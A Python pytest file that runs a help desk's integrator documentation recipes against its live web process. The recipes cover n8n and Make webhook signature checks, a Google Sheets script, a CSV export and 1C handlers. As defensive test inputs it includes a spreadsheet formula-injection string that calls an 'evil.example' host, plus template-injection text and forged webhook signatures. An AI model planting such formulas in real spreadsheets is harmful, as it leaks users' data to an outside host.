"""The recipes of docs/how-to/integrators, as a person pastes them: code and payloads against the real web process. n8n,
Make, Google and 1C are only what these need of them; none of their programs runs here."""

import asyncio
import base64
import csv
import hashlib
import hmac
import json
import os
import re
import shutil
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web

from db.database import Database
from desk.crm.record_kinds import RecordKind
from desk.integrations.scopes import Scope
from ops.json_http import JsonClient
from tests.flows import cast
from tests.flows.acts import files
from tests.flows.api.client import URL, Client, token_of
from tests.flows.crm.side import crm_of, make_client
from tests.flows.crm.side import sent as sent_to_crm
from tests.flows.panel.browser import panel_of
from tests.flows.servers import serving
from tests.flows.stage import Stage, staged
from tests.flows.webhooks.catcher import RULES, SETTINGS, Catcher, catching, sending, sent
from tests.texts import LANGUAGES
from web.crm.connection import HttpCrm, make_headers
from web.crm.mapping import load_mappings
from web.settings import WebSettings

each_language = pytest.mark.parametrize("language", LANGUAGES)
with_node = pytest.mark.skipif(shutil.which("node") is None, reason="no node here")
_J = {"content-type": "application/json"}


def _blocks(project: Path, page: str, kind: str, language: str = "en") -> list[str]:
    """The blocks of code of one kind on a page, as they are pasted."""
    where = project / "docs" / language.replace("en", "") / "how-to" / "integrators" / f"{page}.md"
    said = re.findall(r"^( *)```(\w*)\n(.*?)^ *```$", where.read_text("utf-8"), re.MULTILINE | re.DOTALL)
    return [re.sub(rf"^{indent}", "", code, flags=re.MULTILINE) for indent, named, code in said if named == kind]


@pytest.mark.sentence("Systems and the API")
def test_both_languages_show_the_same_code(project: Path) -> None:
    for page, kind in (("automation", "javascript"), ("spreadsheet", "javascript"), ("spreadsheet", "python"),
                       ("1c", "bsl"), ("1c", "json")):  # fmt: skip
        assert _blocks(project, page, kind) == _blocks(project, page, kind, "ru") != []
    made = [one for language in ("en", "ru") for one in _blocks(project, "automation", "", language) if "{{" in one]
    assert len(made) == 2 and made[0] == made[1]


async def _ran(*command: str, given: Any = None, **environment: str) -> str:
    """What a program prints; it is given JSON."""
    ran = await asyncio.create_subprocess_exec(
        *command, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
        env={**os.environ, **environment},
    )  # fmt: skip
    out, err = await ran.communicate(json.dumps(given).encode())
    assert ran.returncode == 0, err.decode()
    return out.decode()


# n8n and Make: a call as the help desk makes it.


async def _caught(stage: Stage, catcher: Catcher, port: int) -> tuple[str, dict[str, str], bytes]:
    """The secret of a webhook that the shop registers, and the call about a request with hostile words."""
    token = await token_of(stage.vera, "Shop", Scope.WEBHOOKS, Scope.ALL_READ)
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}") as http:
        made = await Client(http, token).asks("POST", "/webhooks", {"url": catcher.url, "types": ["ticket.created"]})
    await files(stage.rita, "Касса 🔥 «ring» {{1.value}} ${secret}")
    async with sending(stage) as sender:
        await sent(sender)
    ((headers, body),) = catcher.caught
    return made["secret"], {name.lower(): value for name, value in headers.items()}, body


_N8N = """
const [code, headers, body, now] = JSON.parse(require("fs").readFileSync(0));
Date.now = () => now * 1000;
const helpers = { getBinaryDataBuffer: async () => Buffer.from(body, "base64") };
const made = new ((async () => {}).constructor)("require", "$input", code);
made.call({ helpers }, require, { first: () => ({ json: { headers } }) }).then(
  (items) => console.log(JSON.stringify(items)), (error) => console.log(JSON.stringify(error.message)));
"""
_HEADER = r'get\(map\(1\.__IMTHEADERS__; "value"; "name"; "([\w-]+)"\); 1\)'


def _is_let_through(formulas: str, secret: str, headers: dict[str, str], body: bytes, now: int) -> bool:
    """Whether Make's filter lets a call through, by the meaning of its functions."""
    signature, contains, good, and_, age, less, most = formulas.strip().splitlines()
    assert (contains, and_, less) == ("Text operators: Contains", "and", "Numeric operators: Less than")
    (signed, key) = re.findall(r'v1,\{\{sha256\((.*); "base64"; "(\w+)"; "base64"\)\}\}', good)[0]
    constants = {"1.value": body.decode(), '"."': "."}
    said = "".join(constants.get(one) or headers[re.findall(_HEADER, one)[0]] for one in signed.split(" + "))
    raw = base64.b64decode(key.replace("SECRET", secret.removeprefix("whsec_")))
    made = "v1," + base64.b64encode(hmac.new(raw, said.encode(), hashlib.sha256).digest()).decode()
    assert re.fullmatch(rf'\{{\{{abs\(parseNumber\(formatDate\(now; "X"\)\) - parseNumber\({_HEADER}\)\)\}}\}}', age)
    is_fresh = abs(now - int(headers[re.findall(_HEADER, age)[0]])) < int(most)
    return made in headers[re.findall(_HEADER, signature)[0]] and is_fresh


@pytest.mark.sentence("Webhooks and events")
async def test_make_and_n8n_let_through_what_the_help_desk_sends_and_nothing_else(
    database: Database, project: Path
) -> None:
    begins = (cast.olga, cast.rita)
    async with (
        staged(database, board=False, begins=begins, web__url=URL, **RULES) as stage,
        panel_of(stage, **SETTINGS) as port,
        catching() as catcher,
    ):
        secret, headers, body = await _caught(stage, catcher, port)
        now = int(stage.clock().timestamp())
        old, forged = {**headers, "webhook-id": "evt_9"}, headers | {"webhook-signature": "v1,"}
        tries = [(headers, body, now, True), (headers, body + b" ", now, False), (headers, body, now + 301, False)]
        tries += [(old, body, now, False), (forged, body, now, False)]
        (code,) = _blocks(project, "automation", "javascript")
        formulas = next(one for one in _blocks(project, "automation", "") if "__IMTHEADERS__" in one)
        for said, content, moment, good in tries:
            assert _is_let_through(formulas, secret, said, content, moment) is good
            if shutil.which("node") is None:
                continue
            given = [code.replace("whsec_…", secret), said, base64.b64encode(content).decode(), moment]
            items = json.loads(await _ran("node", "-e", _N8N, given=given))
            assert items == ([{"json": json.loads(body)}] if good else "This call is not from the help desk.")
        flow = json.loads((project / "docs" / "examples" / "n8n.json").read_text("utf-8"))
        assert flow["nodes"][1]["parameters"]["jsCode"] == code


@pytest.mark.sentence("Systems and the API")
@each_language
async def test_a_flow_opens_a_request_once(database: Database, project: Path, language: str) -> None:
    (body,) = _blocks(project, "automation", "json", language)
    async with (
        staged(database, board=False, begins=(cast.olga,), web__url=URL) as stage,
        panel_of(stage) as port,
        httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}/api/v1") as http,
    ):
        token = await token_of(stage.vera)
        more = {"authorization": f"Bearer {token}", "idempotency-key": "flow-1", **_J}
        made = [await http.post("/tickets", content=body, headers=more) for _ in range(2)]
        assert [(one.status_code, one.json()["number"]) for one in made] == [(201, 1), (201, 1)]


# Spreadsheets.

_SHEETS = """
const { execFileSync } = require("child_process");
const given = JSON.parse(require("fs").readFileSync(0));
const ask = `const [url, how] = JSON.parse(require("fs").readFileSync(0));
  fetch(url, how).then(async (one) => console.log(JSON.stringify([one.status, await one.text()])));`;
let losing = given.losing;
const UrlFetchApp = { fetch(url, { method, headers, contentType, payload }) {
  const how = { method: method.toUpperCase(), body: payload, headers: {
    ...headers, ...(contentType && { "Content-Type": contentType }) } };
  const [status, text] = JSON.parse(execFileSync(process.execPath, ["-e", ask], { input: JSON.stringify([url, how]) }));
  if (losing && method === "post") throw new Error("Address unavailable");
  return { getResponseCode: () => status, getContentText: () => text };
} };
const PropertiesService = { getScriptProperties: () => ({ getProperty: () => given.token }) };
const LockService = { getScriptLock: () => ({ waitLock() {}, releaseLock() {} }) };
const Utilities = { getUuid: () => require("crypto").randomUUID() };
const cells = given.sheets;
const sheetOf = (name) => ({
  clearContents() { cells[name] = []; },
  getDataRange: () => ({ getValues: () => cells[name].map((row) => [...row]) }),
  getRange: (row, column) => ({
    setValues(rows) { cells[name] = rows; }, setValue(value) { cells[name][row - 1][column - 1] = value; } }),
});
const getSheetByName = (name) => (name in cells ? sheetOf(name) : null);
const SpreadsheetApp = { flush() {}, getActive: () => ({ getSheetByName }) };
const names = ["UrlFetchApp", "PropertiesService", "LockService", "Utilities", "SpreadsheetApp"];
const made = new Function(...names, `${given.code}; ${given.run}();`);
let failed = null;
try {
  made(UrlFetchApp, PropertiesService, LockService, Utilities, SpreadsheetApp);
} catch (error) { failed = error.message; }
console.log(JSON.stringify([failed, cells]));
"""
_EMPTY = ["id", "name", "text", "key", "number"]


@pytest.mark.sentence("Systems and the API")
@with_node
async def test_the_sheet_sends_its_rows_once_and_shows_open_requests(database: Database, project: Path) -> None:
    """Also when the answer is lost; words that would run as a formula do not, and pages follow each other."""
    (code,) = _blocks(project, "spreadsheet", "javascript")
    async with (
        staged(database, board=False, begins=(cast.olga, cast.rita), web__url=URL) as stage,
        panel_of(stage) as port,
    ):
        await files(stage.rita, '=IMPORTXML("https://evil.example/"&A2)')
        token = await token_of(stage.vera, "Sheet", Scope.ALL_READ)
        code = code.replace("https://desk.example", f"http://127.0.0.1:{port}").replace("limit=100", "limit=1")
        new = [_EMPTY, ["c-7", "Kim", "The parcel is late", "", ""], ["c-8", "Lee", "", "", ""]]
        sheets: dict[str, Any] = {"Requests": [["left from before"]], "New": new}

        async def runs(name: str, *, losing: bool = False) -> str | None:
            given = {"code": code, "run": name, "token": token, "sheets": sheets, "losing": losing}
            failed, after = json.loads(await _ran("node", "-e", _SHEETS, given=given))
            sheets.update(after)
            return failed if failed is None else str(failed)

        assert await runs("sendRows", losing=True) == "Address unavailable"
        assert sheets["New"][1][3:] == [sheets["New"][1][3], ""]
        for _ in range(2):
            assert await runs("sendRows") is None
            assert [row[4] for row in sheets["New"]] == ["number", 2, ""]
        await stage.settle()
        assert await runs("readRequests") is None
        head, second, first = sheets["Requests"]
        assert head[:4] == ["number", "status", "subject", "requester"]
        assert second[:4] == ["2", "new", "The parcel is late", "Kim"]
        assert first[2].startswith("'=IMPORTXML")


@pytest.mark.sentence("Systems and the API")
async def test_the_file_for_excel_has_open_requests(database: Database, project: Path, tmp_path: Path) -> None:
    (code,) = _blocks(project, "spreadsheet", "python")
    (tmp_path / "requests_to_csv.py").write_text(code.replace("limit=100", "limit=1"), "utf-8")
    async with (
        staged(database, board=False, begins=(cast.olga, cast.rita), web__url=URL) as stage,
        panel_of(stage) as port,
    ):
        for said in ("=1+1 on the display", "The lift is stuck; again"):
            await files(stage.rita, said)
        await stage.olga.presses("claim:2")
        token = await token_of(stage.vera, "Sheet", Scope.ALL_READ)
        ran = ("sh", "-c", f"cd {tmp_path} && {sys.executable} requests_to_csv.py")
        await _ran(*ran, DESK=f"http://127.0.0.1:{port}", TOKEN=token)
    with (tmp_path / "requests.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter=";"))
    assert [row[0] for row in rows] == ["number", "2", "1"]
    assert (rows[1][2], rows[1][4], rows[2][2]) == ("The lift is stuck; again", "Olga", "'=1+1 on the display")
    assert sorted(one.name for one in tmp_path.iterdir()) == ["requests.csv", "requests_to_csv.py"]


# 1C: what its HTTP service is sent, and what it sends.

_HELD = "a1b2c3d4-0000-4000-8000-0000000000%02d"


def _handler(code: str, name: str) -> set[str]:
    """The fields that a handler in 1C's language reads, with those that all read."""
    (mine,) = re.findall(rf"Функция {name}\(Запрос\)(.*?)КонецФункции", code, re.DOTALL)
    (all_,) = re.findall(r"Функция НайтиИлиСоздать\(Менеджер, Данные\)(.*?)КонецФункции", code, re.DOTALL)
    return set(re.findall(r"Данные\.(\w+)", mine + all_))


@pytest.mark.sentence("The CRM")
async def test_1c_is_sent_what_its_handlers_read(database: Database, project: Path, tmp_path: Path) -> None:
    service, _ = _blocks(project, "1c", "bsl")
    (mapping,) = _blocks(project, "1c", "json")
    assert json.loads(mapping) == json.loads((project / "docs" / "examples" / "1c_mapping.json").read_text("utf-8"))
    (tmp_path / "1c_mapping.json").write_text(mapping, "utf-8")
    variables = dict(
        line.split("=", 1) for one in _blocks(project, "1c", "") if "CRM_URL" in one
        for line in one.splitlines()
    )  # fmt: skip
    variables["CRM_MAPPING"] = str(tmp_path / "1c_mapping.json")
    settings = WebSettings(_env_file=None, web_url=URL, **{name.lower(): said for name, said in variables.items()})
    came: list[tuple[str, dict[str, Any]]] = []

    async def put(request: web.Request) -> web.Response:
        given = request.headers["authorization"].removeprefix("Basic ")
        if base64.b64decode(given).decode() != "pulldesk:a-long-secret":
            return web.Response(status=401)
        body = await request.json()
        came.append((request.match_info["kind"], body))
        return web.json_response({"Ссылка": body["Ссылка"] or _HELD % len(came)})

    app = web.Application()
    app.router.add_put("/base/hs/pulldesk/{kind:organizations|requests}/{id}", put)
    async with (
        staged(database, board=False, begins=(cast.olga, cast.rita), organizations__enabled=True) as stage,
        serving(app) as url,
        JsonClient(f"{url}/base/hs/pulldesk", make_headers(settings), seconds=5) as client,
        crm_of(stage) as (_, sender),
    ):
        sender._crm = HttpCrm(client, load_mappings(settings.crm_mapping))
        await make_client(stage)
        number = await files(stage.rita, "The till prints nothing")
        await sent_to_crm(stage, sender)
        await stage.olga.presses(f"claim:{number}")
        await stage.pass_time(minutes=1)
        await sent_to_crm(stage, sender)
    organization, *requests = sorted(came, key=lambda one: one[0])
    assert set(organization[1]) == _handler(service, "ПринятьОрганизацию")
    assert {kind for kind, _ in requests} == {"requests"}
    assert all(set(body) >= _handler(service, "ПринятьЗаявку") - {"Контрагент"} for _, body in requests)
    assert (requests[0][1]["Ссылка"], requests[0][1]["Состояние"]) == (None, "Новая")
    assert (requests[-1][1]["Ссылка"] is not None, requests[-1][1]["Состояние"]) == (True, "В работе")
    fields = load_mappings(settings.crm_mapping)[RecordKind.REQUEST]
    assert fields is not None and fields.fields is not None
    assert set(fields.fields.values()) == _handler(service, "ПринятьЗаявку")


@pytest.mark.sentence("The CRM")
@each_language
async def test_what_1c_sends_is_taken(database: Database, project: Path, language: str) -> None:
    _, back = _blocks(project, "1c", "bsl", language)
    (call,) = (one for one in _blocks(project, "1c", "", language) if one.startswith("curl"))
    method, path, body = re.findall(r"-X (\w+) .*?\$D(/\S+).*-d '(.*)'", call, re.DOTALL)[0]
    (named,) = re.findall(r'Новый Структура\("([\w, ]+)"\)', back)
    assert named.split(", ") == list(json.loads(body))
    assert f'ВызватьHTTPМетод("{method}", Запрос)' in back and '"/api/v1/organizations/"' in back
    async with (
        staged(database, board=False, begins=(cast.olga,), organizations__enabled=True, web__url=URL) as stage,
        panel_of(stage) as port,
        httpx.AsyncClient(base_url=f"http://127.0.0.1:{port}/api/v1") as http,
    ):
        await stage.vera.writes("/settings organizations on")
        token = await token_of(stage.vera, "1C", Scope.ORGANIZATIONS)
        more = {"authorization": f"Bearer {token}", **_J}
        for _ in range(2):
            answer = await http.request(method, path, content=body.encode(), headers=more)
            assert (answer.status_code, answer.json()["name"]) == (200, json.loads(body)["name"])
